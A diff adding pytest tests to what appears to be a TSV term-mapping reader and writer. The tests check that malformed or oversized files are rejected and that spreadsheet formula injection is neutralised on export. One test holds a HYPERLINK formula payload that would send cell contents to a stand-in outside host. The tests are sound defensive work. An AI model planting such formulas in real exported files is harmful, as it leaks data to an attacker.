@@ -78,3 +78,27 @@ def test_what_is_written_is_read_again(tmp_path: Path) -> None:
 def test_a_table_with_a_fault_is_refused_whole(tmp_path: Path, text: str, reason: str) -> None:
     with pytest.raises(BadInput, match=reason):
         read_mappings(put(tmp_path, text))
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        b"", b"\x00" * 1_000, bytes(range(256)) * 1_000, b"PK\x03\x04" + b"\x00" * 100,
+        b'"' + b"x" * 300_000 + b"\na\tb\n", HEAD.encode() + b'"a:b\tskos:exactMatch\tc:d\n' * 10,
+        HEAD.encode() + b"a:b\tskos:exactMatch\tc:d\t\t" + b"x" * 200_000 + b"\n",
+        HEAD.encode() + b"".join(b"a:%d\tskos:exactMatch\tc:%d\n" % (n, n) for n in range(2_000)),
+    ],
+)  # fmt: skip
+def test_a_hostile_file_is_refused_in_words_whatever_it_is(tmp_path: Path, body: bytes) -> None:
+    (tmp_path / "m.tsv").write_bytes(body)
+    with pytest.raises(BadInput):
+        read_mappings(tmp_path / "m.tsv")
+
+
+def test_no_cell_that_leaves_is_run_by_a_spreadsheet() -> None:
+    evil = '=HYPERLINK("//zq.example/"&A1,"x")'
+    text = written([TermMapping(source=evil, predicate="exactMatch", target="@x:y", author="-1+1", note=evil)])
+
+    cells = [cell.strip('"') for row in text.splitlines() for cell in row.split("\t")]
+    assert [cell for cell in cells if cell.startswith(("=", "@", "-", "+"))] == []
+    assert "HYPERLINK" in text
